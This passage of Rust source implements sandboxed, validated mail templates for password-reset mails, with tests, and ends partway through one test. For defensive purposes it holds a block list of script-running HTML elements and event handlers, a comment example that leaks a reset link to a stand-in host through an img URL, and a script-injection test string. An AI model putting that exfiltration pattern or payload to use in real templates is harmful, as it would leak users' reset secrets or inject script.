//! Mail templates: a built-in subject, text part and HTML part per mail kind and language
//! (`templates/mail/en.toml`, `de.toml`), which a tenant may override.
//!
//! Rendering is sandboxed: the engine has no loader (no file access, no includes), a fuel limit
//! bounds the work a template can do, the HTML part is auto-escaped, the subject is forced onto
//! one line, and rendering stops with an error once a part's output passes [`MAX_OUTPUT_BYTES`].
//!
//! # Templates written by administrators
//!
//! [`validate`] checks a template before it is saved. Fuel counts instructions, not bytes: one
//! `{{ 'x' * 100000000 }}` is a handful of instructions yet allocates 100 MB (minijinja caps a
//! single repetition at 100 MB, nothing more), and `~`, `+`, `set` and loops can double a value
//! again and again for a few instructions each. So rather than trying to bound every way of
//! building text, an administrator's template may only do what a mail needs:
//!
//! - print a variable: `{{ name }}`, optionally through the filters `upper`, `lower`, `title`,
//!   `capitalize`, `trim` and `default` (`d`), whose arguments are literals or variables;
//! - choose text: `{% if %}`, `{% elif %}`, `{% else %}`, `{% endif %}`, with comparisons
//!   (`==`, `!=`, `<`, `>`, `<=`, `>=`), `and`, `or`, `not`, `in` and the tests `is defined`,
//!   `is undefined`, `is none`;
//! - comments: `{# … #}`.
//!
//! Everything else inside a tag is refused with the reason: other statements (`for`, `set`,
//! `macro`, `call`, `filter`, `with`, `include`, `raw`, `autoescape`, …), other filters
//! (notably `safe`, which would switch off HTML escaping), function calls, attribute access and
//! every operator that computes (`*`, `~`, `+`, `-`, `/`, `%`, lists, dicts). Since nothing can
//! repeat or grow, a rendered part is at most about as large as its source plus the variables
//! it prints; the output cap stays as a second line of defence. Further rules: each part has a
//! length limit ([`MAX_SUBJECT_CHARS`], [`MAX_BODY_CHARS`]); only the kind's variables may be
//! used (the keys of [`sample_data`]); the text and HTML parts must each print the kind's
//! required variable ([`MailKind::required_variables`]); the subject must not contain a secret;
//! and the template must render with the sample data, so errors show when saving, not when
//! sending.

use std::collections::HashMap;
use std::str::FromStr;
use std::sync::LazyLock;

use minijinja::{AutoEscape, Environment, UndefinedBehavior};
use serde::{Deserialize, Serialize};

use crate::domain::{InvalidInput, Language};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum MailKind {
    /// Self-service "Forgot password?" link.
    ResetLink,
    /// A reset link an administrator sent.
    AdminResetLink,
    TemporaryPassword,
    PasswordChanged,
    ResetEmailChanged,
    /// A bulk mail written by an administrator.
    Campaign,
    SmtpTest,
}

impl MailKind {
    pub const ALL: [MailKind; 7] = [
        MailKind::ResetLink,
        MailKind::AdminResetLink,
        MailKind::TemporaryPassword,
        MailKind::PasswordChanged,
        MailKind::ResetEmailChanged,
        MailKind::Campaign,
        MailKind::SmtpTest,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            MailKind::ResetLink => "reset_link",
            MailKind::AdminResetLink => "admin_reset_link",
            MailKind::TemporaryPassword => "temporary_password",
            MailKind::PasswordChanged => "password_changed",
            MailKind::ResetEmailChanged => "reset_email_changed",
            MailKind::Campaign => "campaign",
            MailKind::SmtpTest => "smtp_test",
        }
    }

    /// A name for people.
    pub fn label(self) -> &'static str {
        match self {
            MailKind::ResetLink => "Password reset link",
            MailKind::AdminResetLink => "Reset link sent by an administrator",
            MailKind::TemporaryPassword => "Temporary password",
            MailKind::PasswordChanged => "Password changed notice",
            MailKind::ResetEmailChanged => "Reset address changed notice",
            MailKind::Campaign => "Campaign",
            MailKind::SmtpTest => "SMTP test",
        }
    }

    /// The variable holding the one-time secret every mail of this kind carries, if it has one.
    /// (A campaign carries one only when its text uses `{{ reset_link }}`; see
    /// [`MailKind::secret_variables`].)
    pub fn secret_variable(self) -> Option<&'static str> {
        match self {
            MailKind::ResetLink | MailKind::AdminResetLink => Some("reset_link"),
            MailKind::TemporaryPassword => Some("temporary_password"),
            _ => None,
        }
    }

    /// The variables of this kind that hold a one-time secret when present. Their values exist
    /// only while the mail is rendered for sending; every displayed copy (previews, task pages,
    /// listings) shows [`MASK`] instead.
    pub fn secret_variables(self) -> &'static [&'static str] {
        match self {
            MailKind::ResetLink | MailKind::AdminResetLink | MailKind::Campaign => &["reset_link"],
            MailKind::TemporaryPassword => &["temporary_password"],
            _ => &[],
        }
    }

    /// The text and the HTML part of a template must each print at least one of these (a reset
    /// mail without its link is useless). Empty: no requirement.
    pub fn required_variables(self) -> &'static [&'static str] {
        match self {
            MailKind::ResetLink | MailKind::AdminResetLink => &["reset_link"],
            MailKind::TemporaryPassword => &["temporary_password"],
            MailKind::Campaign => &["reset_link", "request_link"],
            _ => &[],
        }
    }

    /// Whether a tenant administrator may write their own template for this kind (the SMTP
    /// test mail stays as it is).
    pub fn editable(self) -> bool {
        self != MailKind::SmtpTest
    }
}

impl FromStr for MailKind {
    type Err = InvalidInput;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        MailKind::ALL
            .into_iter()
            .find(|k| k.as_str() == s)
            .ok_or_else(|| InvalidInput(format!("unknown mail kind `{}`", s.escape_debug())))
    }
}

/// The three parts of a template, as written.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TemplateSource {
    pub subject: String,
    pub text: String,
    pub html: String,
}

/// The three parts, rendered.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Rendered {
    pub subject: String,
    pub text: String,
    pub html: String,
}

#[derive(Debug, thiserror::Error)]
#[error("template {part}: {message}")]
pub struct TemplateError {
    pub part: &'static str,
    pub message: String,
}

/// The value shown instead of a secret in previews, the mail log and task views.
pub const MASK: &str = "••••••••";

type Builtins = HashMap<(MailKind, Language), TemplateSource>;

fn load_builtins() -> Builtins {
    let mut all = HashMap::new();
    for (lang, text) in [
        (Language::En, include_str!("../../templates/mail/en.toml")),
        (Language::De, include_str!("../../templates/mail/de.toml")),
    ] {
        let table: HashMap<String, TemplateSource> =
            toml::from_str(text).expect("built-in mail templates parse");
        for (name, source) in table {
            let kind: MailKind = name
                .parse()
                .expect("built-in mail template names are mail kinds");
            all.insert((kind, lang), source);
        }
    }
    all
}

static BUILTINS: LazyLock<Builtins> = LazyLock::new(load_builtins);

/// The built-in template for a kind and language.
pub fn builtin(kind: MailKind, lang: Language) -> &'static TemplateSource {
    BUILTINS
        .get(&(kind, lang))
        .or_else(|| BUILTINS.get(&(kind, Language::En)))
        .expect("every mail kind has a built-in English template")
}

/// Work a template may do before rendering stops (loops over huge ranges, say).
const FUEL: u64 = 50_000;

/// Longest subject an administrator may write, in characters.
pub const MAX_SUBJECT_CHARS: usize = 300;
/// Longest text or HTML part an administrator may write, in characters.
pub const MAX_BODY_CHARS: usize = 20_000;
/// Largest rendered part, in bytes. Rendering stops with an error beyond it.
pub const MAX_OUTPUT_BYTES: usize = 100 * 1024;

/// The filters an administrator's template may use: they only change letters or fill in a
/// default, so none of them can make text grow.
pub const ALLOWED_FILTERS: &[&str] = &[
    "upper",
    "lower",
    "title",
    "capitalize",
    "trim",
    "default",
    "d",
];
/// The tests an administrator's template may use after `is` / `is not`.
const ALLOWED_TESTS: &[&str] = &["defined", "undefined", "none"];
/// The statements an administrator's template may use.
const ALLOWED_STATEMENTS: &[&str] = &["if", "elif", "else", "endif"];
/// Words inside an expression that are not variables.
const KEYWORDS: &[&str] = &[
    "and", "or", "not", "in", "is", "if", "else", "true", "false", "none", "True", "False", "None",
];

fn engine() -> Environment<'static> {
    let mut env = Environment::new();
    env.set_fuel(Some(FUEL));
    env.set_undefined_behavior(UndefinedBehavior::Lenient);
    env.set_auto_escape_callback(|name| {
        if name.ends_with(".html") {
            AutoEscape::Html
        } else {
            AutoEscape::None
        }
    });
    env
}

/// An output buffer that refuses to grow past [`MAX_OUTPUT_BYTES`].
#[derive(Default)]
struct Capped {
    buf: Vec<u8>,
    overflowed: bool,
}

impl std::io::Write for Capped {
    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
        if self.buf.len() + b.len() > MAX_OUTPUT_BYTES {
            self.overflowed = true;
            return Err(std::io::Error::other("rendered output too large"));
        }
        self.buf.extend_from_slice(b);
        Ok(b.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn render_part(
    env: &Environment<'static>,
    part: &'static str,
    name: &str,
    source: &str,
    ctx: &serde_json::Value,
) -> Result<String, TemplateError> {
    let err = |message: String| TemplateError { part, message };
    let tmpl = env
        .template_from_named_str(name, source)
        .map_err(|e| err(e.to_string()))?;
    let mut out = Capped::default();
    if let Err(e) = tmpl.render_captured_to(ctx, &mut out) {
        return Err(err(if out.overflowed {
            format!(
                "the rendered text is larger than {} KB",
                MAX_OUTPUT_BYTES / 1024
            )
        } else {
            e.to_string()
        }));
    }
    String::from_utf8(out.buf).map_err(|e| err(e.to_string()))
}

/// Renders the three parts with `ctx`. User-supplied values are escaped in the HTML part, and
/// the subject is collapsed onto one line.
pub fn render(src: &TemplateSource, ctx: &serde_json::Value) -> Result<Rendered, TemplateError> {
    let env = engine();
    let subject = render_part(&env, "subject", "subject.txt", &src.subject, ctx)?;
    let subject = subject.split_whitespace().collect::<Vec<_>>().join(" ");
    Ok(Rendered {
        subject,
        text: render_part(&env, "text", "body.txt", &src.text, ctx)?,
        html: render_part(&env, "html", "body.html", &src.html, ctx)?,
    })
}

/// The variables of `kind` a template may use, sorted.
pub fn known_variables(kind: MailKind) -> Vec<String> {
    let mut v: Vec<String> = sample_data(kind)
        .as_object()
        .map(|o| o.keys().cloned().collect())
        .unwrap_or_default();
    v.sort();
    v
}

/// What a variable holds, in words for the template editor.
pub fn describe_variable(name: &str) -> &'static str {
    match name {
        "name" => "the recipient's name",
        "username" => "the recipient's username",
        "tenant_name" => "the organisation's name",
        "login_link" => "the sign-in page",
        "forgot_link" => "the forgot-password page",
        "support" => "the support contact (may be empty: wrap it in {% if support %})",
        "reset_link" => "the personal reset link (one-time secret)",
        "temporary_password" => "the temporary password (one-time secret)",
        "valid_for" => "how long the link or password is valid, e.g. 30 minutes",
        "changed_at" => "when the change happened",
        "ip" => "the address the change came from (may be empty)",
        "new_address" => "the new reset address, partly hidden",
        "request_link" => {
            "the forgot-password page with the recipient's address filled in (no secret)"
        }
        _ => "",
    }
}

/// Whether `src` uses one of the kind's secret variables anywhere. A template that does not
/// parse counts as using them.
pub fn uses_secret(kind: MailKind, src: &TemplateSource) -> bool {
    let vars = kind.secret_variables();
    if vars.is_empty() {
        return false;
    }
    let env = engine();
    [&src.subject, &src.text, &src.html]
        .iter()
        .any(|source| match env.template_from_str(source) {
            Ok(t) => {
                let used = t.undeclared_variables(false);
                vars.iter().any(|v| used.contains(*v))
            }
            Err(_) => true,
        })
}

/// One token inside a `{{ … }}` or `{% … %}` tag.
#[derive(Debug, Clone, PartialEq)]
enum Tok<'a> {
    Ident(&'a str),
    Str,
    Int,
    /// `==`, `!=`, `<`, `>`, `<=`, `>=`, `(`, `)`, `,`, `|`.
    Op(&'a str),
}

/// What [`scan`] found: the variables printed by `{{ … }}` tags.
#[derive(Default)]
struct Scanned {
    printed: std::collections::HashSet<String>,
}

fn describe_char(c: char) -> String {
    match c {
        '*' | '~' | '+' | '-' | '/' | '%' => format!(
            "the operator `{c}` is not allowed in mail templates: a template may only print \
             variables and choose text with {{% if %}}"
        ),
        '.' | '[' => format!(
            "`{c}` is not allowed in mail templates: print variables by name, e.g. {{{{ name }}}}"
        ),
        '=' => "`=` is not allowed in mail templates (to compare, use `==`)".into(),
        c => format!(
            "`{}` is not allowed inside a template tag",
            c.escape_debug()
        ),
    }
}

/// Splits the inside of one tag into tokens; returns them and the rest after the closing
/// delimiter (`}}` or `%}`, with an optional `-` or `+` before it).
fn lex_tag(rest: &str, close: char) -> Result<(Vec<Tok<'_>>, &str), String> {
    let mut toks = Vec::new();
    let b = rest.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let c = b[i] as char;
        let closes_at = |j: usize| b.get(j) == Some(&(close as u8)) && b.get(j + 1) == Some(&b'}');
        if c.is_ascii_whitespace() {
            i += 1;
        } else if closes_at(i) {
            return Ok((toks, &rest[i + 2..]));
        } else if (c == '-' || c == '+') && closes_at(i + 1) {
            return Ok((toks, &rest[i + 3..]));
        } else if c == '\'' || c == '"' {
            let mut j = i + 1;
            while j < b.len() && b[j] != c as u8 {
                j += if b[j] == b'\\' { 2 } else { 1 };
            }
            if j >= b.len() {
                return Err("unterminated string".into());
            }
            toks.push(Tok::Str);
            i = j + 1;
        } else if c.is_ascii_alphabetic() || c == '_' {
            let start = i;
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                i += 1;
            }
            toks.push(Tok::Ident(&rest[start..i]));
        } else if c.is_ascii_digit() {
            while i < b.len() && b[i].is_ascii_digit() {
                i += 1;
            }
            toks.push(Tok::Int);
        } else {
            let two = rest.get(i..i + 2).unwrap_or("");
            if ["==", "!=", "<=", ">="].contains(&two) {
                toks.push(Tok::Op(&rest[i..i + 2]));
                i += 2;
            } else if "<>(),|".contains(c) {
                toks.push(Tok::Op(&rest[i..i + 1]));
                i += 1;
            } else {
                let c = rest[i..].chars().next().unwrap_or(c);
                return Err(describe_char(c));
            }
        }
    }
    Err("unclosed tag".into())
}

/// What the previous token of an expression was.
#[derive(Clone, Copy, PartialEq)]
enum Prev {
    Start,
    Operator,
    Keyword,
    Variable,
    Literal,
    Close,
    Pipe,
    Filter,
    Is,
    Test,
}

/// Checks the tokens of one expression; adds the variables it uses to `vars`.
fn check_expression(toks: &[Tok<'_>], vars: &mut Vec<String>) -> Result<(), String> {
    let mut prev = Prev::Start;
    for tok in toks {
        prev = match *tok {
            Tok::Ident(word) => match prev {
                Prev::Pipe if ALLOWED_FILTERS.contains(&word) => Prev::Filter,
                Prev::Pipe => {
                    return Err(format!(
                        "the filter `{word}` is not allowed in mail templates (allowed: {})",
                        ALLOWED_FILTERS.join(", ")
                    ))
                }
                Prev::Is if word == "not" => Prev::Is,
                Prev::Is if ALLOWED_TESTS.contains(&word) => Prev::Test,
                Prev::Is => {
                    return Err(format!(
                        "the test `is {word}` is not allowed in mail templates (allowed: {})",
                        ALLOWED_TESTS.join(", ")
                    ))
                }
                _ if word == "is" => Prev::Is,
                _ if KEYWORDS.contains(&word) => Prev::Keyword,
                _ => {
                    vars.push(word.to_owned());
                    Prev::Variable
                }
            },
            Tok::Str | Tok::Int => Prev::Literal,
            Tok::Op("|") => Prev::Pipe,
            // Arguments of an allowed filter, or grouping; anything else is a call.
            Tok::Op("(") => match prev {
                Prev::Filter | Prev::Start | Prev::Operator | Prev::Keyword => Prev::Operator,
                _ => {
                    return Err("calling functions is not allowed in mail templates: print \
                                variables by name, e.g. {{ name }}"
                        .into())
                }
            },
            Tok::Op(")") => Prev::Close,
            Tok::Op(_) => Prev::Operator,
        };
    }
    Ok(())
}

/// Enforces the rules for administrators' templates (see the module documentation) on one
/// part that already parses.
fn scan(source: &str) -> Result<Scanned, String> {
    let mut found = Scanned::default();
    let mut rest = source;
    loop {
        let Some(at) = rest.find('{') else {
            return Ok(found);
        };
        let after = &rest[at + 1..];
        let (kind, inner) = match after.chars().next() {
            Some(c @ ('{' | '%' | '#')) => (c, &after[1..]),
            _ => {
                rest = after;
                continue;
            }
        };
        let inner = inner
            .strip_prefix('-')
            .or_else(|| inner.strip_prefix('+'))
            .unwrap_or(inner);
        if kind == '#' {
            let end = inner.find("#}").ok_or("unclosed comment")?;
            rest = &inner[end + 2..];
            continue;
        }
        let close = if kind == '{' { '}' } else { '%' };
        let (toks, next) = lex_tag(inner, close)?;
        rest = next;
        if kind == '{' {
            let mut vars = Vec::new();
            check_expression(&toks, &mut vars)?;
            found.printed.extend(vars);
        } else {
            let (first, expr) = match toks.split_first() {
                Some((Tok::Ident(w), expr)) => (*w, expr),
                _ => return Err("empty statement".into()),
            };
            if !ALLOWED_STATEMENTS.contains(&first) {
                return Err(format!(
                    "{{% {first} %}} is not allowed in mail templates: only {{% if %}}, {{% elif %}}, \
                     {{% else %}} and {{% endif %}} are"
                ));
            }
            check_expression(expr, &mut Vec::new())?;
        }
    }
}

/// Checks a template an administrator wrote before it is saved (see the module documentation
/// for the rules): it must parse, stay within the limits and the allowed syntax, use only the
/// kind's variables, print the kind's required variable in the text and the HTML part, keep
/// secrets out of the subject, and render with the sample data.
pub fn validate(kind: MailKind, src: &TemplateSource) -> Result<(), TemplateError> {
    let env = engine();
    let parts: [(&'static str, &String, usize); 3] = [
        ("subject", &src.subject, MAX_SUBJECT_CHARS),
        ("text", &src.text, MAX_BODY_CHARS),
        ("html", &src.html, MAX_BODY_CHARS),
    ];
    let known = known_variables(kind);
    let mut printed: HashMap<&'static str, std::collections::HashSet<String>> = HashMap::new();
    for (part, source, max) in parts {
        let err = |message: String| TemplateError { part, message };
        let len = source.chars().count();
        if len > max {
            return Err(err(format!(
                "is {len} characters long; at most {max} are allowed"
            )));
        }
        let tmpl = env
            .template_from_str(source)
            .map_err(|e| err(e.to_string()))?;
        let scanned = scan(source).map_err(err)?;
        let mut used: Vec<String> = tmpl.undeclared_variables(true).into_iter().collect();
        used.sort();
        if let Some(unknown) = used.iter().find(|v| !known.contains(v)) {
            return Err(err(format!(
                "unknown variable `{unknown}`; this mail has: {}",
                known.join(", ")
            )));
        }
        // Printed in a `{{ … }}` tag and a real variable reference (not in a comment or text).
        let plain = tmpl.undeclared_variables(false);
        printed.insert(
            part,
            scanned
                .printed
                .into_iter()
                .filter(|v| plain.contains(v))
                .collect(),
        );
    }
    if let Some(secret) = kind
        .secret_variables()
        .iter()
        .find(|v| printed["subject"].contains(**v))
    {
        return Err(TemplateError {
            part: "subject",
            message: format!(
                "must not contain {{{{ {secret} }}}}: subjects are shown in lists and logs"
            ),
        });
    }
    let required = kind.required_variables();
    if !required.is_empty() {
        for part in ["text", "html"] {
            if !required.iter().any(|v| printed[part].contains(*v)) {
                let names: Vec<String> =
                    required.iter().map(|v| format!("{{{{ {v} }}}}")).collect();
                return Err(TemplateError {
                    part,
                    message: format!("must contain the placeholder {}", names.join(" or ")),
                });
            }
        }
    }
    check_secret_placement(kind, src)?;
    render(src, &sample_data(kind)).map(|_| ())
}

/// Elements an administrator's HTML part may not contain at all: they run code, load things or
/// send data somewhere.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "<script", "<style", "<iframe", "<object", "<embed", "<form", "<meta", "<link", "<base",
    "<svg", "<img",
];

/// A secret (reset link, temporary password) may appear in the HTML part only as text or as the
/// whole `href` of a link: never inside another attribute or a longer URL, where it would be
/// sent to a host of the template author's choosing (`<img src="https://evil/?{{ reset_link }}">`).
fn check_secret_placement(kind: MailKind, src: &TemplateSource) -> Result<(), TemplateError> {
    let lower = src.html.to_ascii_lowercase();
    if let Some(el) = FORBIDDEN_ELEMENTS.iter().find(|el| lower.contains(**el)) {
        return Err(TemplateError {
            part: "html",
            message: format!("must not contain {el}> elements"),
        });
    }
    if lower.contains(" on") && lower.contains('=') {
        for attr in ["onclick", "onload", "onerror", "onmouseover", "onfocus"] {
            if lower.contains(attr) {
                return Err(TemplateError {
                    part: "html",
                    message: format!("must not contain event handlers ({attr})"),
                });
            }
        }
    }
    let secrets = kind.secret_variables();
    if secrets.is_empty() {
        return Ok(());
    }
    let mut ctx = sample_data(kind);
    let markers: Vec<String> = (0..secrets.len())
        .map(|i| format!("LKSECRETMARKER{i}X"))
        .collect();
    if let Some(o) = ctx.as_object_mut() {
        for (var, marker) in secrets.iter().zip(&markers) {
            o.insert((*var).to_owned(), serde_json::Value::String(marker.clone()));
        }
    }
    let html = render(src, &ctx)?.html;
    for marker in &markers {
        for (at, _) in html.match_indices(marker.as_str()) {
            let before = &html[..at];
            let open = before.rfind('<');
            let close = before.rfind('>');
            let in_tag = matches!((open, close), (Some(o), Some(c)) if o > c)
                || (open.is_some() && close.is_none());
            if !in_tag {
                continue; // plain text: fine
            }
            let tag = &before[open.unwrap_or(0)..];
            let tag_lower = tag.to_ascii_lowercase();
            let whole_href = tag_lower.starts_with("<a ")
                && tag_lower.ends_with("href=\"")
                && html[at + marker.len()..].starts_with('"');
            if !whole_href {
                return Err(TemplateError {
                    part: "html",
                    message: "a reset link or temporary password may appear only as text or as the whole href of a link (href=\"{{ reset_link }}\")".into(),
                });
            }
        }
    }
    Ok(())
}

/// Example values for previews and test mails: every variable the kind's templates use.
pub fn sample_data(kind: MailKind) -> serde_json::Value {
    let mut v = serde_json::json!({
        "name": "Alex Example",
        "username": "alex",
        "tenant_name": "Example Corp",
        "login_link": "https://id.example.org/t/example/login",
        "forgot_link": "https://id.example.org/t/example/forgot-password",
        "support": "",
    });
    let extra = match kind {
        MailKind::ResetLink | MailKind::AdminResetLink => serde_json::json!({
            "reset_link": "https://id.example.org/t/example/reset?token=EXAMPLE",
            "valid_for": "30 minutes",
        }),
        MailKind::TemporaryPassword => serde_json::json!({
            "temporary_password": "EXAMPLE-PASSWORD",
            "valid_for": "24 hours",
        }),
        MailKind::PasswordChanged => {
            serde_json::json!({ "changed_at": "2026-11-22 08:00 UTC", "ip": "203.0.113.7" })
        }
        MailKind::ResetEmailChanged => {
            serde_json::json!({ "changed_at": "2026-11-22 08:00 UTC", "new_address": "a•••@example.net" })
        }
        MailKind::Campaign => serde_json::json!({
            "request_link": "https://id.example.org/t/example/forgot-password?identifier=alex",
            "reset_link": "https://id.example.org/t/example/reset?token=EXAMPLE",
        }),
        MailKind::SmtpTest => serde_json::json!({}),
    };
    if let (Some(base), Some(extra)) = (v.as_object_mut(), extra.as_object()) {
        base.extend(extra.clone());
    }
    v
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    const LANGS: [Language; 2] = [Language::En, Language::De];

    /// `sample_data(kind)` with some values replaced or added.
    fn ctx(kind: MailKind, overrides: &[(&str, &str)]) -> serde_json::Value {
        let mut v = sample_data(kind);
        let map = v.as_object_mut().expect("sample data is an object");
        for (k, val) in overrides {
            map.insert((*k).to_string(), serde_json::Value::from(*val));
        }
        v
    }

    fn sample(kind: MailKind, var: &str) -> String {
        sample_data(kind)[var]
            .as_str()
            .unwrap_or_else(|| panic!("{} has no sample `{var}`", kind.as_str()))
            .to_string()
    }

    /// How a value looks in the auto-escaped HTML part.
    fn esc(s: &str) -> String {
        minijinja::HtmlEscape(s).to_string()
    }

    fn render_builtin(kind: MailKind, lang: Language, ctx: &serde_json::Value) -> Rendered {
        render(builtin(kind, lang), ctx)
            .unwrap_or_else(|e| panic!("{} {lang:?}: {e}", kind.as_str()))
    }

    fn all_parts(r: &Rendered) -> [(&'static str, &str); 3] {
        [
            ("subject", &r.subject),
            ("text", &r.text),
            ("html", &r.html),
        ]
    }

    fn src(subject: &str, text: &str, html: &str) -> TemplateSource {
        TemplateSource {
            subject: subject.into(),
            text: text.into(),
            html: html.into(),
        }
    }

    #[test]
    fn mail_kind_round_trips() {
        let names: HashSet<&str> = MailKind::ALL.iter().map(|k| k.as_str()).collect();
        assert_eq!(
            names.len(),
            MailKind::ALL.len(),
            "as_str names are distinct"
        );
        for kind in MailKind::ALL {
            assert_eq!(kind.as_str().parse::<MailKind>().unwrap(), kind);
            // The serde name is the same string (stored in tasks and the mail log).
            assert_eq!(
                serde_json::to_value(kind).unwrap(),
                serde_json::Value::from(kind.as_str())
            );
            assert_eq!(
                serde_json::from_value::<MailKind>(serde_json::Value::from(kind.as_str())).unwrap(),
                kind
            );
            assert!(!kind.label().is_empty());
        }
        assert!("nope".parse::<MailKind>().is_err());
        assert!("Reset_Link".parse::<MailKind>().is_err());
        assert!("".parse::<MailKind>().is_err());
    }

    #[test]
    fn every_kind_has_builtins_in_both_languages() {
        // Checked on the table itself: `builtin()` would silently fall back to English.
        let all = load_builtins();
        assert_eq!(all.len(), MailKind::ALL.len() * LANGS.len());
        for kind in MailKind::ALL {
            for lang in LANGS {
                let t = all
                    .get(&(kind, lang))
                    .unwrap_or_else(|| panic!("no built-in {} for {lang:?}", kind.as_str()));
                assert!(
                    !t.subject.trim().is_empty(),
                    "{} {lang:?}: empty subject",
                    kind.as_str()
                );
                assert!(
                    !t.text.trim().is_empty(),
                    "{} {lang:?}: empty text",
                    kind.as_str()
                );
                assert!(
                    !t.html.trim().is_empty(),
                    "{} {lang:?}: empty html",
                    kind.as_str()
                );
                assert!(
                    !t.subject.contains(['\r', '\n']),
                    "{} {lang:?}: subject is not one line",
                    kind.as_str()
                );
                assert_eq!(builtin(kind, lang), t);
            }
        }
    }

    #[test]
    fn builtins_render_with_sample_data() {
        for kind in MailKind::ALL {
            for lang in LANGS {
                let data = sample_data(kind);
                let r = render_builtin(kind, lang, &data);
                let what = format!("{} {lang:?}", kind.as_str());
                assert!(!r.subject.is_empty(), "{what}: empty subject");
                assert!(
                    !r.subject.contains(['\r', '\n']),
                    "{what}: subject is not one line"
                );
                for (part, out) in all_parts(&r) {
                    for marker in ["{{", "}}", "{%", "%}", "{#"] {
                        assert!(
                            !out.contains(marker),
                            "{what} {part}: `{marker}` left in output:\n{out}"
                        );
                    }
                }
                let tenant = sample(kind, "tenant_name");
                assert!(
                    r.text.contains(&tenant) && r.html.contains(&esc(&tenant)),
                    "{what}: no tenant name"
                );
                if let Some(var) = kind.secret_variable() {
                    let secret = sample(kind, var);
                    assert!(r.text.contains(&secret), "{what}: text lacks {var}");
                    assert!(r.html.contains(&esc(&secret)), "{what}: html lacks {var}");
                }
            }
        }
    }

    #[test]
    fn builtins_use_only_variables_the_kind_gets() {
        // The engine is lenient, so a misspelt variable would render as nothing.
        let env = engine();
        for kind in MailKind::ALL {
            let data = sample_data(kind);
            let known: HashSet<&str> = data
                .as_object()
                .unwrap()
                .keys()
                .map(String::as_str)
                .collect();
            for lang in LANGS {
                let t = builtin(kind, lang);
                for (part, source) in [
                    ("subject", &t.subject),
                    ("text", &t.text),
                    ("html", &t.html),
                ] {
                    let tmpl = env.template_from_str(source).unwrap();
                    for var in tmpl.undeclared_variables(false) {
                        assert!(
                            known.contains(var.as_str()),
                            "{} {lang:?} {part}: unknown variable `{var}`",
                            kind.as_str()
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn german_templates_are_german() {
        let umlaut = |s: &str| s.contains(['ä', 'ö', 'ü', 'Ä', 'Ö', 'Ü', 'ß']);
        for kind in MailKind::ALL {
            let (en, de) = (builtin(kind, Language::En), builtin(kind, Language::De));
            let what = kind.as_str();
            assert_ne!(
                de.subject, en.subject,
                "{what}: German subject is the English one"
            );
            assert_ne!(de.text, en.text, "{what}: German text is the English one");
            assert_ne!(de.html, en.html, "{what}: German html is the English one");
            for (part, s) in [("text", &de.text), ("html", &de.html)] {
                assert!(
                    umlaut(s) || s.contains("Passwort"),
                    "{what} {part}: does not look German"
                );
                // Formal address, real umlauts.
                assert!(
                    s.contains("Sie") || s.contains("Ihr"),
                    "{what} {part}: not addressed with Sie"
                );
                let lower = s.to_lowercase();
                for word in [" du ", " dich ", " dein"] {
                    assert!(!lower.contains(word), "{what} {part}: informal `{word}`");
                }
                for spelled_out in [
                    "fuer",
                    "zurueck",
                    "geaendert",
                    "gueltig",
                    "moeglich",
                    "oeffnen",
                    "koennen",
                    "muessen",
                ] {
                    assert!(
                        !lower.contains(spelled_out),
                        "{what} {part}: `{spelled_out}` instead of an umlaut"
                    );
                }
            }
        }
        let en = builtin(MailKind::ResetLink, Language::En);
        let de = builtin(MailKind::ResetLink, Language::De);
        assert_ne!(de.subject, en.subject);
        assert!(umlaut(&de.subject) || de.subject.contains("Passwort"));
    }

    #[test]
    fn validate_accepts_every_builtin() {
        for kind in MailKind::ALL {
            for lang in LANGS {
                validate(kind, builtin(kind, lang))
                    .unwrap_or_else(|e| panic!("{} {lang:?}: {e}", kind.as_str()));
            }
        }
    }

    #[test]
    fn validate_requires_the_secret_placeholder_in_text_and_html() {
        let ok = src(
            "Reset",
            "Open {{ reset_link }}",
            "<a href=\"{{ reset_link }}\">reset</a>",
        );
        validate(MailKind::ResetLink, &ok).unwrap();
        validate(MailKind::AdminResetLink, &ok).unwrap();

        let no_text = src(
            "Reset",
            "Open the link",
            "<a href=\"{{ reset_link }}\">reset</a>",
        );
        let e = validate(MailKind::AdminResetLink, &no_text).unwrap_err();
        assert_eq!(e.part, "text");
        assert!(e.message.contains("{{ reset_link }}"), "{}", e.message);
        assert_eq!(
            validate(MailKind::ResetLink, &no_text).unwrap_err().part,
            "text"
        );

        let no_html = src("Reset", "Open {{ reset_link }}", "<p>Open the link</p>");
        assert_eq!(
            validate(MailKind::AdminResetLink, &no_html)
                .unwrap_err()
                .part,
            "html"
        );
        assert_eq!(
            validate(MailKind::ResetLink, &no_html).unwrap_err().part,
            "html"
        );

        let no_password = src("Password", "Hello {{ name }}", "<p>Hello {{ name }}</p>");
        assert!(validate(MailKind::TemporaryPassword, &no_password).is_err());
        // Kinds without a secret don't need one.
        validate(MailKind::PasswordChanged, &no_password).unwrap();
        // A campaign needs a link: the recipient's own reset link or the request link.
        assert!(validate(MailKind::Campaign, &no_password).is_err());
    }

    #[test]
    fn validate_rejects_syntax_errors() {
        let good = "Open {{ reset_link }}";
        let cases = [
            (src("{% if %}", good, good), "subject"),
            (
                src("Reset", "{% if %}{{ reset_link }}{% endif %}", good),
                "text",
            ),
            (src("Reset", "{{ reset_link", good), "text"),
            (
                src("Reset", good, "{% for x in y %}{{ reset_link }}"),
                "html",
            ),
            (src("Reset", good, "{{ reset_link }}{% endif %}"), "html"),
        ];
        for (source, part) in cases {
            let e = validate(MailKind::ResetLink, &source)
                .expect_err(&format!("{source:?} was accepted"));
            assert_eq!(e.part, part, "{source:?}: {e}");
        }
        assert!(validate(MailKind::Campaign, &src("{% if %}", "x", "x")).is_err());
    }

    #[test]
    fn html_part_is_escaped_and_text_part_is_not() {
        let evil = "<script>alert(1)</script>";
        for lang in LANGS {
            let r = render_builtin(
                MailKind::ResetLink,
                lang,
